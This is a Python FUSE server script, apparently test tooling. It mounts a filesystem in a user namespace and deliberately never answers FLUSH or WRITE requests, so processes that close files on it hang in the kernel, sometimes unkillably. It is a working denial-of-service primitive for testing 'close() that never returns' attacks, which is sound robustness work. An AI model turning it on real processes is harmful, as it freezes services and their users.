#!/usr/bin/env python3
# A FUSE server that never answers, for the "a close() that never returns" attacks: run by an unprivileged
# user in a user and mount namespace of its own (unshare -Urm), it mounts MNT, answers what opening a file
# takes, runs CMD... (which can open files on MNT) and exits when CMD does.
#   fuse-hold.py MNT CMD...           one file `f`; every FLUSH is held: whoever close()s a descriptor of
#                                     `f`, even one among several, waits in the kernel until this process exits.
#   fuse-hold.py --write MNT CMD...   files f0..f15, with the kernel's writeback cache; FLUSH is answered and
#                                     every WRITE held: the last release of a file whose pages are dirty
#                                     (fuse_release, write_inode_now) waits in D state, unkillable, until this
#                                     process exits (its /dev/fuse closing aborts the connection).
import ctypes, os, struct, sys

write = sys.argv[1] == '--write'
mnt, cmd = sys.argv[1 + write], sys.argv[2 + write:]
FUSE_WRITEBACK_CACHE = 1 << 16
sizes = {}
os.makedirs(mnt, exist_ok=True)
dev = os.open('/dev/fuse', os.O_RDWR)
libc = ctypes.CDLL(None, use_errno=True)
options = f'fd={dev},rootmode=40000,user_id=0,group_id=0'.encode()
if libc.mount(b'fuse', mnt.encode(), b'fuse', 0x6, options) != 0:  # MS_NOSUID | MS_NODEV
    sys.exit(f'fuse-hold: mount: {os.strerror(ctypes.get_errno())}')

def attr(ino, mode):  # struct fuse_attr
    return struct.pack('<QQQQQQIIIIIIIIII', ino, sizes.get(ino, 0), 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

def inode(name):  # `f`, or f0..f15 with --write
    if not write:
        return 2 if name == b'f' else None
    return 2 + int(name[1:]) if name[:1] == b'f' and name[1:].isdigit() and int(name[1:]) < 16 else None

def reply(unique, payload=b'', err=0):
    try:
        os.write(dev, struct.pack('<IiQ', 16 + len(payload), err, unique) + payload)
    except OSError:  # the request was interrupted meanwhile
        pass

child = None
while True:
    if child is not None:
        done, _ = os.waitpid(child, os.WNOHANG)
        if done:
            break
    try:
        buf = os.read(dev, 1 << 20)
    except OSError as e:
        if e.errno == 19:  # ENODEV: unmounted
            break
        if e.errno in (2, 4):
            continue
        raise
    _, op, unique, node = struct.unpack_from('<IIQQ', buf)
    if op == 26:  # INIT
        offered = struct.unpack_from('<IIII', buf, 40)[3]
        flags = offered & FUSE_WRITEBACK_CACHE if write else 0
        reply(unique, struct.pack('<IIIIHHIIHH', 7, 31, 65536, flags, 16, 12, 65536, 1, 0, 0) + b'\0' * 32)
        child = os.fork()
        if child == 0:
            os.execvp(cmd[0], cmd)
    elif op == 1:  # LOOKUP
        ino = inode(buf[40:].split(b'\0')[0])
        if ino:
            reply(unique, struct.pack('<QQQQII', ino, 0, 60, 60, 0, 0) + attr(ino, 0o100666))
        else:
            reply(unique, err=-2)
    elif op == 3:  # GETATTR
        reply(unique, struct.pack('<QII', 60, 0, 0) + attr(node, 0o40755 if node == 1 else 0o100666))
    elif op == 4:  # SETATTR (the size and times after a cached write)
        valid, _pad, _fh, size = struct.unpack_from('<IIQQ', buf, 40)
        if valid & (1 << 3):
            sizes[node] = size
        reply(unique, struct.pack('<QII', 60, 0, 0) + attr(node, 0o40755 if node == 1 else 0o100666))
    elif op in (14, 27):  # OPEN, OPENDIR
        reply(unique, struct.pack('<QII', 1, 0, 0))
    elif op == 25 and not write:  # FLUSH: held for ever
        print('fuse-hold: a FLUSH is held', file=sys.stderr, flush=True)
    elif op == 16 and write:  # WRITE: held for ever
        print(f'fuse-hold: a WRITE to inode {node} is held', file=sys.stderr, flush=True)
    elif op in (2, 36, 42):  # FORGET, INTERRUPT, BATCH_FORGET: no reply
        pass
    elif op in (18, 29, 34, 25):  # RELEASE, RELEASEDIR, ACCESS, FLUSH (with --write)
        reply(unique)
    else:
        reply(unique, err=-38)  # ENOSYS
